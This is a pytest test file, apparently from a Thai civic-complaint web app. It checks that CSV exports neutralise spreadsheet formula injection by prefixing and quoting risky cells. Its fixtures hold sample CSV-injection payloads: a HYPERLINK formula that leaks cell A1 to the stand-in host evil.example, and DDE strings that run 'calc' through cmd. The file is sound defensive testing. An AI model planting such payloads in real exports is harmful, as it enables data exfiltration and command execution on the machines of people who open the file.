"""Every CSV the app writes reads as data in a spreadsheet: a cell that would run as a formula
starts with an apostrophe and is quoted (OWASP's advice), and the open-data export still imports."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select, update

from bot import create_app, services
from bot.permissions import Actor
from storage.models import Agency, Base, Case
from tests.conftest import make_settings
from tests.support.staff import signed_in
from tests.support.traffy import ticket, write_csv

pytestmark = pytest.mark.usefixtures("clock")

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"ดูรูป")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0"]
LIVE = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def site(database_url, fake_line, tmp_path):
    """The app on each database with imported cases whose texts are formulas."""
    app = create_app(make_settings(database_url, fake_line, tmp_path))
    rows = [ticket(n + 1, comment=formula, address=formula, district="=1+1" if n == 0 else "ปทุมวัน")
            for n, formula in enumerate(FORMULAS)]
    path = write_csv(tmp_path / "f.csv", rows)
    result = app.test_cli_runner().invoke(args=["import", "traffy", str(path)])
    assert "loaded 4" in result.output, result.output
    with app.extensions["chaeng"].db.uow() as uow:
        evil = services.add_agency(uow, "-evil", '=HYPERLINK("http://evil.example")', "@evil",
                                   "department", Actor("admin", "1"))
        uow.session.execute(update(Case).values(agency_id=evil.id))
        uow.commit()
    yield app
    app.extensions["chaeng"].db.dispose()


def live_cells(text: str) -> list[str]:
    """The cells of a CSV text a spreadsheet would run as formulas."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell[:1] in LIVE and cell not in ("-",) and not _number(cell)]


def _number(cell: str) -> bool:
    """Whether a cell is a plain (signed) number or a 'lon,lat' pair of them."""
    try:
        return all(part.strip() and float(part) == float(part) for part in cell.split(","))
    except ValueError:
        return False


def test_the_open_data_csv_by_http_and_by_cli_has_no_live_formula_and_quotes_the_neutralised_cells(site):
    downloaded = site.test_client().get("/open-data/cases.csv").get_data(as_text=True)
    printed = site.test_cli_runner().invoke(args=["export", "--format", "csv"]).output
    for text in (downloaded, printed):
        assert live_cells(text) == []
        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""ดูรูป"")"' in text
        assert '"\'-2+3"' in text and '"\'=1+1"' in text


def test_an_exported_csv_imports_again_with_the_formula_text_as_it_was_written(
        site, fake_line, tmp_path):
    exported = tmp_path / "out.csv"
    exported.write_text(site.test_cli_runner().invoke(args=["export", "--format", "csv"]).output,
                        encoding="utf-8")
    other = create_app(make_settings(f"sqlite:///{tmp_path / 'other.db'}", fake_line, tmp_path))
    Base.metadata.create_all(other.extensions["chaeng"].db.engine)
    result = other.test_cli_runner().invoke(args=["import", "traffy", str(exported)])
    assert "loaded 4, skipped 0 (already imported), invalid 0" in result.output, result.output
    with other.extensions["chaeng"].db.uow() as uow:
        again = dict(uow.session.execute(select(Case.ticket_id, Case.description)).all())
        district = uow.session.scalar(select(Case.district).where(Case.ticket_id == "2022-T00001"))
    assert again == {f"2022-T{n + 1:05d}": formula for n, formula in enumerate(FORMULAS)}
    assert district == "=1+1"
    other.extensions["chaeng"].db.dispose()


def test_the_dashboards_statistics_and_service_level_csvs_have_no_live_formula(site):
    admin = signed_in(site, "a@city.go.th", "admin")
    for name in ("categories", "districts", "agencies", "stars", "months", "summary"):
        text = admin.get(f"/admin/stats/{name}.csv").get_data(as_text=True)
        assert live_cells(text) == [], name
    agencies = admin.get("/admin/stats/agencies.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in agencies and "'@evil" in agencies and "'-evil" in agencies
    assert "'=1+1" in admin.get("/admin/stats/districts.csv").get_data(as_text=True)
    levels = admin.get("/admin/service-levels/levels.csv").get_data(as_text=True)
    assert live_cells(levels) == [] and '"\'-evil"' in levels


def test_the_routing_table_exports_without_live_formulas_and_imports_back_unchanged(site, tmp_path):
    cli = site.test_cli_runner()
    path = tmp_path / "routing.csv"
    cli.invoke(args=["routing", "export", str(path)])
    path.write_text(path.read_text(encoding="utf-8") + "ถนน,*,-evil\n", encoding="utf-8")
    assert "added: ถนน x * -> -evil" in cli.invoke(args=["routing", "import", str(path)]).output
    cli.invoke(args=["routing", "export", str(path)])
    assert live_cells(path.read_text(encoding="utf-8")) == []
    assert '"\'-evil"' in path.read_text(encoding="utf-8")
    assert cli.invoke(args=["routing", "import", str(path)]).output == "no changes\n"
    with site.extensions["chaeng"].db.uow() as uow:
        assert uow.session.scalar(select(Agency.code).where(Agency.code == "-evil")) == "-evil"
